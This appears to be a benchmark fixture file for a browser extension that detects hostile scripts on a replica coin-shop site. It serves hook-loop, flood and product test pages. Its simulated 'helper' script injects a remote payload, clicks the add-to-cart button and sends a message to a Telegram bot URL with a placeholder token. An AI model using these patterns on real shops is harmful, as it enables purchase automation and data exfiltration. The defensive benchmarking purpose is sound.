/**
 * The pages browser benchmarks load, served by the shop replica under the shop's real hostname (so
 * Saq's content scripts run on them exactly as on the shop):
 * - a blank shop page (a tab's first stop, so a measured navigation stays in one renderer process);
 * - the hook page: the shop's own inline code calling a hooked API in a loop (actor "page", the common
 *   case every shop request and click takes);
 * - the real product page plus a helper: a foreign script from the helper CDN, parser-inserted, whose
 *   functions the benchmark calls on cue, and an inline "shop code" function that bursts cart requests;
 * - the flood page: the product page plus a hostile script that inserts 10,000 scripts and dispatches
 *   100,000 synthetic events in small chunks, and an inline event-loop monitor.
 * Benchmarks start page functions with a real key press (see `trigger`), so the stack a hook captures
 * holds the page's or the helper's frames only, never the automation driver's.
 */
import { request } from 'node:http';
import type { MeasuredTab } from './browsers.ts';
import { HELPER_CDN } from '../../tests/helpers/hostile-scripts.ts';
import type { ShopServer } from '../../tests/shop/index.ts';

export const PRODUCT_PATH = '/kz/product/snow-leopard-silver';
export const PRODUCT_SLUG = 'snow-leopard-silver';
export const BLANK_PATH = '/__bench/blank';
export const HOOKS_PATH = '/__bench/hooks';
export const REACTION_PATH = `${PRODUCT_PATH}?bench=reaction`;
export const FLOOD_PATH = `${PRODUCT_PATH}?bench=flood`;
export const BUNDLE_PATH = `${PRODUCT_PATH}?bench=bundle`;
const BUNDLE_SCRIPT = '/__bench/shop-bundle.js';
export const HELPER_URL = `https://${HELPER_CDN}/bench-helper.js`;
export const FLOOD_URL = `https://${HELPER_CDN}/bench-flood.js`;

export const HOOK_OPS = [
  'fetch',
  'xhr',
  'addEventListener',
  'appendChild',
  'appendField',
  'setAttribute',
  'textContent',
  'click',
  'setTimeout',
] as const;
export type HookOp = (typeof HOOK_OPS)[number];

/**
 * Each op's loop. Setup (elements, listeners, abort signal) happens before the clock starts.
 * - fetch: the synchronous part of a call, with an already-aborted signal, so 100,000 calls measure
 *   the call path (where a hook's work sits) rather than the network and the replica's disk.
 * - xhr: open() of a same-origin GET plus send() of a request already in flight, which the browser
 *   refuses after the hooks have done their full work: a real send per call would measure the network
 *   service (about 1 ms per request here, growing as 100,000 of them queue), not the hooks.
 * - addEventListener: 100,000 distinct (element, listener) pairs, so the browser's duplicate check
 *   stays short and every call registers a listener.
 * - appendChild: 100,000 fresh <div>s appended to a container in the document (the observers see them).
 * - appendField: the same with fresh <label>s each holding an <input> (a shop rendering a form): the insertion
 *   hooks find the input and note who placed it (src/content/main/shop-fields.ts), reading the stack for it.
 * - setAttribute: the names a shop's code sets most (class, aria-expanded, data-state, title) in turn on
 *   1,000 <div>s in the document — a hook every attribute write passes through (the loader and the
 *   event-handler watchers, main/attribute-writes.ts), none of them a name it watches.
 * - textContent: new text for 1,000 <div>s in the document in turn (a price list re-rendered) — Node's
 *   text setter, which the script and attribute watchers wrap. `i % 7`, not a power of two: with 1,000
 *   elements each would get the same text every round (neither browser skips an unchanged text, measured,
 *   but the loop should do what it says).
 * - click: HTMLElement.click() on a plain button that is no purchase control.
 * - setTimeout: a timer set and cleared at once: the wrapper that keeps who scheduled a callback
 *   (src/content/main/scheduled.ts) with its stack, which is taken for the first 256 a second and not past them.
 */
const HOOK_PAGE_SCRIPT = `
window.__bench = (() => {
  const noop = () => {};
  const loops = {
    fetch(n) {
      const controller = new AbortController();
      controller.abort();
      const init = { signal: controller.signal };
      return () => { for (let i = 0; i < n; i++) fetch('/api/stock/bench', init).catch(noop); };
    },
    xhr(n) {
      // One request really goes out; every later send() is refused by the browser (the request is in
      // flight or done) after the hooks have done their full work. open() alone never touches the network.
      const sent = new XMLHttpRequest();
      sent.open('GET', '/api/stock/bench');
      sent.send();
      const fresh = new XMLHttpRequest();
      return () => {
        for (let i = 0; i < n; i++) {
          fresh.open('GET', '/api/stock/bench');
          try { sent.send(); } catch {}
        }
      };
    },
    addEventListener(n) {
      const elements = Array.from({ length: 1000 }, () => document.createElement('div'));
      const listeners = Array.from({ length: Math.ceil(n / 1000) }, () => function () {});
      return () => { for (let i = 0; i < n; i++) elements[i % 1000].addEventListener('click', listeners[(i / 1000) | 0]); };
    },
    appendChild(n) {
      const container = document.createElement('div');
      container.hidden = true;
      document.body.appendChild(container);
      const nodes = Array.from({ length: n }, () => document.createElement('div'));
      return () => { for (let i = 0; i < n; i++) container.appendChild(nodes[i]); };
    },
    appendField(n) {
      const container = document.createElement('div');
      container.hidden = true;
      document.body.appendChild(container);
      const nodes = Array.from({ length: n }, () => {
        const label = document.createElement('label');
        label.appendChild(document.createElement('input'));
        return label;
      });
      return () => { for (let i = 0; i < n; i++) container.appendChild(nodes[i]); };
    },
    setAttribute(n) {
      const container = document.createElement('div');
      container.hidden = true;
      document.body.appendChild(container);
      const elements = Array.from({ length: 1000 }, () => container.appendChild(document.createElement('div')));
      const names = ['class', 'aria-expanded', 'data-state', 'title'];
      return () => { for (let i = 0; i < n; i++) elements[i % 1000].setAttribute(names[i & 3], 'v' + (i & 7)); };
    },
    textContent(n) {
      const container = document.createElement('div');
      container.hidden = true;
      document.body.appendChild(container);
      const elements = Array.from({ length: 1000 }, () => container.appendChild(document.createElement('div')));
      return () => { for (let i = 0; i < n; i++) elements[i % 1000].textContent = 'v' + (i % 7); };
    },
    click(n) {
      const button = document.getElementById('bench-button');
      return () => { for (let i = 0; i < n; i++) button.click(); };
    },
    setTimeout(n) {
      return () => { for (let i = 0; i < n; i++) clearTimeout(setTimeout(noop, 60000)); };
    },
  };
  return {
    start(op, n) {
      const loop = loops[op](n);
      const started = performance.now();
      loop();
      const ms = performance.now() - started;
      window.__benchDone({ ms });
    },
  };
})();`;

/**
 * Runs the function named by `window.__benchTrigger` on a trusted F8 key press. Starting page code from
 * an evaluation, even through setTimeout, leaves the driver in the stack in Firefox (its stacks include
 * async parents), and Saq rightly names every call "automation"; a key press has no script parent.
 */
const TRIGGER_INLINE = `
window.__benchTrigger = null;
window.addEventListener('keydown', (event) => {
  const job = window.__benchTrigger;
  if (event.key !== 'F8' || !job) return;
  window.__benchTrigger = null;
  const [object, method] = job.path.split('.');
  window[object][method](...job.args);
}, true);`;

/** Starts `path` (e.g. '__benchHelper.insertScript') in the page as its own code would, with `args`. */
export async function trigger(tab: Pick<MeasuredTab, 'read' | 'press'>, path: string, ...args: unknown[]): Promise<void> {
  await tab.read(`window.__benchTrigger = ${JSON.stringify({ path, args })}, undefined`);
  await tab.press('F8');
}

const HOOKS_HTML = `<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>bench: hooks</title>
<script>${TRIGGER_INLINE}${HOOK_PAGE_SCRIPT}</script></head>
<body><button type="button" id="bench-button">bench</button></body></html>`;

const BLANK_HTML = '<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>bench</title></head><body></body></html>';

/**
 * The helper's actions, each stamping Date.now() — the system clock, which the badge observer reads
 * too, whatever process it runs in — right before the act.
 */
const HELPER_SCRIPT = `
window.__benchHelper = {
  actions: [],
  insertScript() {
    const script = document.createElement('script');
    script.src = 'https://${HELPER_CDN}/payload.js?' + Math.random().toString(36).slice(2);
    window.__benchHelper.actions.push(Date.now());
    document.head.appendChild(script);
  },
  clickBuy() {
    const button = document.querySelector('[data-action="add-to-cart"]');
    window.__benchHelper.actions.push(Date.now());
    button.click();
  },
  exfiltrate() {
    window.__benchHelper.actions.push(Date.now());
    fetch('https://api.telegram.org/bot0000:bench/sendMessage', { method: 'POST', mode: 'no-cors', body: 'chat_id=1&text=bench' }).catch(() => {});
  },
};`;

/** "Shop code" bursting cart requests (actor: the page), so only the rate rule can light the badge. */
const CART_BURST_INLINE = `
window.__benchShop = {
  actions: [],
  cartBurst(count, gapMs) {
    let sent = 0;
    const send = () => {
      window.__benchShop.actions.push(Date.now());
      fetch('/api/cart/items', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId: 'bench', qty: 1 }) }).catch(() => {});
      if (++sent < count) setTimeout(send, gapMs);
    };
    send();
  },
};`;

/**
 * Event-loop monitor for the flood: a 10 ms timer chain records how late each timer fires (≈ the
 * longest task that ran meanwhile) and, in Chromium, long tasks from PerformanceObserver. A timer
 * chain, not a busy ping-pong, so the monitor itself costs next to nothing and lets the tab go quiet.
 */
const FLOOD_MONITOR_INLINE = `
window.__benchMonitor = (() => {
  const state = { maxGapMs: 0, longTasks: [], running: false };
  let expected = 0;
  const tick = () => {
    const now = performance.now();
    const late = now - expected;
    if (late > state.maxGapMs) state.maxGapMs = late;
    expected = now + 10;
    if (state.running) setTimeout(tick, 10);
  };
  try {
    new PerformanceObserver((list) => { for (const entry of list.getEntries()) state.longTasks.push(entry.duration); })
      .observe({ type: 'longtask', buffered: false });
  } catch { state.longTaskApi = false; }
  return {
    state,
    start() { state.running = true; expected = performance.now() + 10; setTimeout(tick, 10); },
    stop() { state.running = false; },
  };
})();`;

/**
 * The flood, in chunks of 100 scripts or 1,000 events per task (a task of the page itself stays far
 * below 50 ms, so long tasks seen only with Saq are Saq's). Inline scripts: no 10,000 downloads.
 * Events alternate mousedown on add to cart (an activation Saq watches, without making the shop send
 * 50,000 cart requests) and input on the quantity field. Started by start(); the result lands in
 * __benchFlood.result, the progress so far in __benchFlood.progress; stop() ends it early.
 */
const FLOOD_SCRIPT = `
window.__benchFlood = {
  result: null,
  progress: { scripts: 0, events: 0 },
  stopped: false,
  stop() { window.__benchFlood.stopped = true; },
  start(scripts, events) {
    if (window.__benchMonitor) window.__benchMonitor.start();
    const started = performance.now();
    const button = document.querySelector('[data-action="add-to-cart"]');
    const quantity = document.querySelector('[data-role="quantity"]') || button;
    let insertedScripts = 0;
    let dispatched = 0;
    const step = () => {
      if (insertedScripts < scripts) {
        for (let i = 0; i < 100 && insertedScripts < scripts; i++, insertedScripts++) {
          const script = document.createElement('script');
          script.textContent = 'window.__floodCount = (window.__floodCount || 0) + 1; // ' + insertedScripts;
          document.body.appendChild(script);
          script.remove();
        }
      } else {
        for (let i = 0; i < 1000 && dispatched < events; i++, dispatched++) {
          if (dispatched % 2 === 0) button.dispatchEvent(new MouseEvent('mousedown', { bubbles: true, cancelable: true }));
          else quantity.dispatchEvent(new Event('input', { bubbles: true }));
        }
      }
      window.__benchFlood.progress = { scripts: insertedScripts, events: dispatched, ms: performance.now() - started };
      if (window.__benchFlood.stopped) return;
      if (insertedScripts < scripts || dispatched < events) setTimeout(step, 0);
      else window.__benchFlood.result = { ms: performance.now() - started, scriptsRan: window.__floodCount || 0, events: dispatched };
    };
    step();
  },
};`;

/** The replica's own HTML for a path (plain HTTP on the replica's port, routed by Host). */
function fetchShopHtml(shop: ShopServer, path: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port: shop.httpsPort, path, headers: { host: 'kazcoins.nationalbank.kz' } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => {
        if (res.statusCode !== 200) reject(new Error(`replica answered ${res.statusCode} for ${path}`));
        else resolve(Buffer.concat(chunks).toString('utf8'));
      });
    });
    req.on('error', reject);
    req.end();
  });
}

/**
 * The product page's own script inside a bundle of ~830 KB, as a shop's front end ships its code: 2,000 modules'
 * functions (defined, never called) and then the page's script, run from the bundle's top level. A hook
 * that takes a stack while that code runs has the bundle's top-level frame on it: asked for that frame's line
 * and column, V8 parses the whole bundle's source again (src/content/main/v8-call-sites.ts).
 */
export function shopBundle(pageScript: string): string {
  const modules: string[] = [];
  for (let i = 0; i < 2000; i++)
    modules.push(
      `m[${i}] = function (exports, require) {\n  var state = { id: ${i}, items: [], total: 0 };\n` +
        `  function add(item) { state.items.push(item); state.total += item.price * (item.qty || 1); return state.total; }\n` +
        `  function label(n) { return 'module-${i}-' + String(n).padStart(4, '0') + (state.total > ${i} ? '+' : ''); }\n` +
        `  exports.add = add; exports.label = label; exports.size = function () { return state.items.length; };\n};`,
    );
  return `var m = [];\n${modules.join('\n')}\n${pageScript}\n`;
}

function withHeadScripts(html: string, scripts: string): string {
  const at = html.indexOf('</head>');
  if (at < 0) throw new Error('the replica page has no </head> to add the bench scripts to');
  return html.slice(0, at) + scripts + html.slice(at);
}

/** Registers every bench page and script on the replica; call again after shop.clearFixtures(). */
export async function installBenchPages(shop: ShopServer): Promise<void> {
  shop.setSalePhase(PRODUCT_SLUG, 'on-sale');
  const product = await fetchShopHtml(shop, PRODUCT_PATH);
  const js = { host: HELPER_CDN, contentType: 'text/javascript' };
  shop.setFixture(BLANK_PATH, BLANK_HTML);
  shop.setFixture(HOOKS_PATH, HOOKS_HTML);
  shop.setFixture('/bench-helper.js', HELPER_SCRIPT, js);
  shop.setFixture('/bench-flood.js', FLOOD_SCRIPT, js);
  shop.setFixture('/payload.js', 'window.__payloadRan = true;', js);
  shop.setFixture(
    REACTION_PATH,
    withHeadScripts(product, `<script>${TRIGGER_INLINE}${CART_BURST_INLINE}</script><script src="${HELPER_URL}"></script>`),
  );
  const productScript = '<script src="/static/product.js" defer></script>';
  if (!product.includes(productScript)) throw new Error(`the replica's product page has no ${productScript} to bundle`);
  shop.setFixture(BUNDLE_SCRIPT, shopBundle(await fetchShopHtml(shop, '/static/product.js')), { contentType: 'text/javascript' });
  shop.setFixture(BUNDLE_PATH, product.replace(productScript, `<script src="${BUNDLE_SCRIPT}" defer></script>`));
  shop.setFixture(
    FLOOD_PATH,
    withHeadScripts(product, `<script>${TRIGGER_INLINE}${FLOOD_MONITOR_INLINE}</script><script src="${FLOOD_URL}"></script>`),
  );
}
